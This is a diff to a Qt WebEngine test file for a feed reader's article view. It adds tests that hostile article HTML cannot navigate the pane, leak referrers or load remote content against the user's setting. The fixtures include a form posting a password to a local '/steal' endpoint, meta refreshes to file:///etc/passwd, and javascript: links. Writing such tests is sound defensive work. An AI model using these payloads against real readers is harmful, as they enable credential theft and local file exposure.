@@ -9,10 +9,13 @@
 #include <QApplication>
 #include <QDir>
 #include <QFile>
+#include <QHostAddress>
 #include <QMenu>
 #include <QPalette>
 #include <QPointer>
 #include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTest>
 #include <QToolButton>
 #include <QWebEngineScript>
@@ -65,6 +68,50 @@ const QByteArray hostileBody =
     " <a id=\"file\" href=\"file:///etc/passwd\">file</a>"
     " <a id=\"js\" href=\"javascript:alert(1)\">js</a></p>";
 
+// A web server elsewhere: records the head of every request that reaches it and answers
+// with a tiny image or page.
+class Listener final : public QObject {
+public:
+    Listener()
+    {
+        if (!m_server.listen(QHostAddress::LocalHost)) qFatal("cannot listen");
+        connect(&m_server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* socket = m_server.nextPendingConnection()) {
+                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
+                    m_partial[socket] += socket->readAll();
+                    if (!m_partial[socket].contains("\r\n\r\n")) return;
+                    requests << m_partial.take(socket);
+                    static const QByteArray gif = QByteArray::fromBase64(
+                        "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");
+                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: " +
+                                  QByteArray::number(gif.size()) + "\r\nConnection: close\r\n\r\n" +
+                                  gif);
+                    socket->disconnectFromHost();
+                });
+                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
+            }
+        });
+    }
+    QString address() const { return u"http://127.0.0.1:%1"_s.arg(m_server.serverPort()); }
+    QList<QByteArray> requests;
+
+private:
+    QTcpServer m_server;
+    QHash<QTcpSocket*, QByteArray> m_partial;
+};
+
+// Remote content of every kind a page can ask for; {L} is the listener's address.
+const QByteArray remoteBody =
+    "<p id=\"text\">Remote things.</p>"
+    "<img src=\"{L}/pixel.gif\">"
+    "<img srcset=\"{L}/srcset.gif 2x\">"
+    "<div style=\"background: url({L}/background.gif); width: 10px; height: 10px\"></div>"
+    "<style>@import url({L}/import.css); @font-face { font-family: f; src: url({L}/font.woff); }"
+    " p { font-family: f; }</style>"
+    "<link rel=\"preload\" href=\"{L}/preload.gif\" as=\"image\">"
+    "<video poster=\"{L}/poster.gif\"></video>"
+    "<iframe src=\"{L}/frame.html\"></iframe>";
+
 } // namespace
 
 // The article pane with real Qt WebEngine on the offscreen platform.
@@ -74,6 +121,30 @@ class ArticleTest : public QObject {
     std::unique_ptr<ReaderFixture> f;
     std::unique_ptr<ItemActions> actions;
     std::unique_ptr<ArticleView> view;
+    std::unique_ptr<Listener> elsewhere;
+
+    void addItem(qint64 id, const QString& title, const QByteArray& body,
+                 std::string url = "https://example.org/article")
+    {
+        sandbox::ItemRecord record;
+        record.id = id;
+        record.feedId = 1;
+        record.guid = "item" + std::to_string(id);
+        record.url = std::move(url);
+        record.title = title.toStdString();
+        record.body = QByteArray(body).replace("{L}", elsewhere->address().toUtf8()).toStdString();
+        record.pubDate = 1'700'000'000;
+        f->sandbox.server->store().addItem(record, 0);
+    }
+
+    // The article's element with that id is still there: the pane shows the article.
+    bool showsArticle(const QString& id = u"text"_s)
+    {
+        return runScript(view->webView()->page(),
+                         u"document.getElementById('"_s + id + u"') !== null"_s)
+                   .toBool() &&
+               view->webView()->page()->url().scheme() == u"lumbra-article"_s;
+    }
 
     void showItem(qint64 id)
     {
@@ -114,6 +185,28 @@ private Q_SLOTS:
         hostile.body = std::string(hostileBody.constData());
         hostile.pubDate = 1'700'000'000;
         f->sandbox.server->store().addItem(hostile, 0);
+        elsewhere = std::make_unique<Listener>();
+        addItem(510, u"Refreshed"_s,
+                "<meta http-equiv=\"refresh\" content=\"0; url={L}/session-expired\">"
+                "<p id=\"text\">Article.</p>");
+        addItem(511, u"Refreshed to a file"_s,
+                "<meta http-equiv=\"refresh\" content=\"0; url=file:///etc/passwd\">"
+                "<p id=\"text\">Article.</p>");
+        addItem(512, u"Form"_s,
+                "<p id=\"text\">Article.</p><form method=\"post\" action=\"{L}/steal\">"
+                "<input name=\"password\" value=\"secret\"><button id=\"go\" style=\"width:"
+                "200px;height:60px\">Go</button></form>");
+        addItem(513, u"Framed"_s,
+                "<p id=\"text\">Article.</p><iframe src=\"{L}/frame.html\"></iframe>");
+        addItem(514, u"Remote"_s, remoteBody);
+        addItem(515, u"\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645"_s,
+                "<p id=\"text\">\xd9\x87\xd8\xb0\xd8\xa7 \xd9\x86\xd8\xb5 "
+                "\xd8\xb9\xd8\xb1\xd8\xa8\xd9\x8a "
+                "(\xd9\x85\xd8\xb9 \xd8\xa3\xd9\x82\xd9\x88\xd8\xa7\xd8\xb3) 2026.</p>");
+        QByteArray photo(5'000'000, 'A');
+        addItem(516, u"Big photo"_s,
+                "<p id=\"text\">Passage before the photo.</p><img src=\"data:image/png;base64," +
+                    photo + "\">");
         actions = std::make_unique<ItemActions>(*f->reader);
         view = std::make_unique<ArticleView>(*f->reader, *actions);
         view->resize(800, 600);
@@ -122,7 +215,9 @@ private Q_SLOTS:
     }
     void cleanup()
     {
+        f->reader->setRemoteImages(true);
         view.reset();
+        elsewhere.reset();
         actions.reset();
         f.reset();
     }
@@ -224,6 +319,140 @@ private Q_SLOTS:
         QVERIFY(text.contains(u"\n> Readable passage here.\n> [\u2197](tavo://lumbra/item/500"_s));
     }
 
+    void theArticleNeverLeavesThePane_data()
+    {
+        QTest::addColumn<qint64>("item");
+        QTest::addColumn<QString>("click"); // an element to click, if any
+        QTest::newRow("meta refresh") << qint64(510) << QString();
+        QTest::newRow("meta refresh to a file") << qint64(511) << QString();
+        QTest::newRow("form post") << qint64(512) << u"go"_s;
+        QTest::newRow("sub-frame") << qint64(513) << QString();
+    }
+
+    void theArticleNeverLeavesThePane()
+    {
+        QFETCH(qint64, item);
+        QFETCH(QString, click);
+        showItem(item);
+        if (!click.isEmpty()) ::click(view->webView(), centreOf(view->webView()->page(), click));
+        QTest::qWait(1500);
+        QVERIFY(showsArticle());
+        QCOMPARE(elsewhere->requests, QList<QByteArray>{});
+        QVERIFY(f->browser.opened.isEmpty());
+        QCOMPARE(view->webView()->shownItem(), std::optional(item));
+    }
+
+    void historyMovesStayOnTheArticle()
+    {
+        showItem(500);
+        showItem(5);
+        view->webView()->back();
+        QTest::qWait(1000);
+        QCOMPARE(runScript(view->webView()->page(), u"document.querySelector('h1').textContent"_s)
+                     .toString(),
+                 u"Tardigrades survive the vacuum of space"_s);
+        QCOMPARE(view->webView()->shownItem(), std::optional(qint64(5)));
+        QCOMPARE(view->webView()->page()->url().scheme(), u"lumbra-article"_s);
+    }
+
+    void framesShowAsLinks()
+    {
+        showItem(513);
+        QTRY_COMPARE(
+            runScript(view->webView()->page(), u"document.querySelectorAll('iframe').length"_s)
+                .toInt(),
+            0);
+        QCOMPARE(runScript(view->webView()->page(), u"document.querySelector('a.embedded').href"_s)
+                     .toString(),
+                 elsewhere->address() + u"/frame.html"_s);
+    }
+
+    void remoteContentLoadsWithoutReferrer()
+    {
+        showItem(514);
+        QTRY_VERIFY_WITH_TIMEOUT(elsewhere->requests.size() >= 5, 10000);
+        QTest::qWait(500);
+        for (const QByteArray& request : std::as_const(elsewhere->requests)) {
+            QVERIFY2(!request.toLower().contains("\r\nreferer:"), request.constData());
+            QVERIFY2(!request.contains("/frame.html"), request.constData());
+        }
+    }
+
+    void remoteContentOffLoadsNothing()
+    {
+        f->reader->setRemoteImages(false);
+        showItem(514);
+        QTest::qWait(1500);
+        QCOMPARE(elsewhere->requests, QList<QByteArray>{});
+        QVERIFY(view->loadImagesAction()->isVisible());
+        // One click loads this article's images.
+        view->loadImagesAction()->trigger();
+        QTRY_VERIFY_WITH_TIMEOUT(!elsewhere->requests.isEmpty(), 10000);
+        QVERIFY(!view->loadImagesAction()->isVisible());
+    }
+
+    void rightToLeftTextReadsRightToLeft()
+    {
+        const auto direction = [this](const QString& selector) {
+            return runScript(view->webView()->page(),
+                             u"getComputedStyle(document.querySelector('"_s + selector +
+                                 u"')).direction"_s)
+                .toString();
+        };
+        showItem(515);
+        QCOMPARE(direction(u"h1"_s), u"rtl"_s);
+        QCOMPARE(direction(u".body"_s), u"rtl"_s);
+        showItem(500);
+        QCOMPARE(direction(u"h1"_s), u"ltr"_s);
+        QCOMPARE(direction(u".body"_s), u"ltr"_s);
+    }
+
+    void anArticleOfAnySizeShowsAndQuotes()
+    {
+        QTemporaryDir vault;
+        f->reader->storeVault(vault.path());
+        showItem(516);
+        QCOMPARE(view->webView()->shownItem(), std::optional(qint64(516)));
+        QVERIFY(showsArticle());
+        runScript(view->webView()->page(),
+                  u"var r = document.createRange();"
+                  u"r.selectNodeContents(document.getElementById('text'));"
+                  u"getSelection().removeAllRanges(); getSelection().addRange(r); true"_s);
+        await(f->reader->saveQuote());
+        QCOMPARE(f->reader->message(), std::optional(u"Quote added to Big photo"_s));
+        QFile note(vault.filePath(u"lumbra/Big photo.md"_s));
+        QVERIFY(note.open(QIODevice::ReadOnly));
+        QVERIFY(note.readAll().contains(
+            "\n> Passage before the photo.\n> [\xE2\x86\x97](tavo://lumbra/item/516"));
+    }
+
+    void aQuoteNeedsTheSelectedArticleShown()
+    {
+        QTemporaryDir vault;
+        f->reader->storeVault(vault.path());
+        showItem(500);
+        runScript(view->webView()->page(),
+                  u"var r = document.createRange();"
+                  u"r.selectNodeContents(document.getElementById('text'));"
+                  u"getSelection().removeAllRanges(); getSelection().addRange(r); true"_s);
+        // The next article's load fails (stopped here); the old page's selection is not its.
+        QSignalSpy failed(view->webView(), &QuoteWebView::loadFailed);
+        QSignalSpy started(view->webView(), &QWebEngineView::loadStarted);
+        f->reader->select(516);
+        QVERIFY(started.wait(10000));
+        view->webView()->page()->triggerAction(QWebEnginePage::Stop);
+        QTRY_COMPARE(failed.count(), 1);
+        QVERIFY(view->currentWidget() != view->webView()->parentWidget());
+        await(f->reader->saveQuote());
+        QCOMPARE(f->reader->message(),
+                 std::optional(u"The selected article isn't shown yet, so nothing was saved."_s));
+        QVERIFY(!QDir(vault.filePath(u"lumbra"_s)).exists());
+        // Selected again, it loads.
+        f->reader->select(500);
+        f->reader->select(516);
+        QTRY_COMPARE_WITH_TIMEOUT(view->webView()->shownItem(), std::optional(qint64(516)), 20000);
+    }
+
     void pageFollowsTheAppearance()
     {
         showItem(5);
@@ -243,6 +472,10 @@ private Q_SLOTS:
         const bool dark = !qEnvironmentVariableIsEmpty("LUMBRA_DARK");
         QVERIFY(
             view->grab().save(folder + (dark ? u"/article-dark.png"_s : u"/article-light.png"_s)));
+        showItem(515);
+        QTest::qWait(500);
+        QVERIFY(view->grab().save(
+            folder + (dark ? u"/article-rtl-dark.png"_s : u"/article-rtl-light.png"_s)));
     }
 };
 
